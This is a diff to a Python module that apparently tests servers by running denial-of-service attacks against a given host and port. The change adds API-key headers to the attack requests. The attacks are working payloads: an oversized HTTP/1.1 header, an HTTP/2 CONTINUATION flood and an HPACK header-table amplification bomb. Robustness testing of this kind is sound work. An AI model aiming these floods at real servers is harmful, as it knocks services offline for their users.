@@ -101,7 +101,7 @@ def hold(begin: Callable, drip: bytes = b"", every: float = 1.0) -> Callable:
 
 
 def post(path: str, length: str) -> Callable:
-    return lambda host: f"POST {path} HTTP/1.1\r\nHost: {host}\r\n{length}\r\n\r\n".encode()
+    return lambda host: f"POST {path} HTTP/1.1\r\nHost: {host}\r\n{frames.key_lines()}{length}\r\n\r\n".encode()
 
 
 def begun(**settings: int) -> bytes:
@@ -171,12 +171,12 @@ def stopped(host: str) -> bytes:
 
 
 def endless_head(host: str) -> bytes:
-    return f"GET /v2 HTTP/1.1\r\nHost: {host}\r\n".encode() + b"x: " + b"a" * (1 << 20)
+    return f"GET /v2 HTTP/1.1\r\nHost: {host}\r\n{frames.key_lines()}".encode() + b"x: " + b"a" * (1 << 20)
 
 
 def continuation(host: str) -> bytes:
     """Returns a request head of many frames, none of which is the last."""
-    first = frames.frame(frames.HEADERS, 0, 1, frames.fields((":method", "POST"), (":path", "/"), (":authority", host)))
+    first = frames.frame(frames.HEADERS, 0, 1, frames.fields((":method", "POST"), (":path", "/"), (":authority", host), *frames.key_fields()))
     more = frames.frame(frames.CONTINUATION, 0, 1, frames.fields(*(("x-a", "b" * 100),) * 100))
     return begun() + first + more * 200
 
@@ -184,7 +184,8 @@ def continuation(host: str) -> bytes:
 def table_bomb(host: str) -> bytes:
     """Returns a header that is long once, and is then referenced by one byte each."""
     long = b"\x40" + frames.string(b"x-a") + frames.string(b"b" * 3900)
-    start = frames.fields((":method", "POST"), (":scheme", "http"), (":path", frames.INFER), (":authority", host))
+    start = frames.fields((":method", "POST"), (":scheme", "http"), (":path", frames.INFER), (":authority", host),
+                          *frames.key_fields())
     first = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, start + long)
     second = frames.frame(frames.HEADERS, frames.END_HEADERS, 3, start + b"\xbe" * 16000)
     return begun() + first + second
@@ -264,7 +265,8 @@ ATTACKS = [
 ]
 
 
-def run(attack: Attack, port: int, host: str, seconds: float) -> None:
+def run(attack: Attack, port: int, host: str, seconds: float, key) -> None:
+    frames.key = key
     # An attacker would use other machines, so the attack leaves the CPU to the servers.
     os.nice(10)
 
@@ -276,7 +278,9 @@ def run(attack: Attack, port: int, host: str, seconds: float) -> None:
     asyncio.run(all_of())
 
 
-def start(attack: Attack, port: int, host: str, seconds: float) -> multiprocessing.Process:
-    process = multiprocessing.get_context("fork").Process(target=run, args=(attack, port, host, seconds), daemon=True)
+def start(attack: Attack, port: int, host: str, seconds: float, key=None) -> multiprocessing.Process:
+    """Starts an attack whose requests have this API key."""
+    arguments = (attack, port, host, seconds, key)
+    process = multiprocessing.get_context("fork").Process(target=run, args=arguments, daemon=True)
     process.start()
     return process
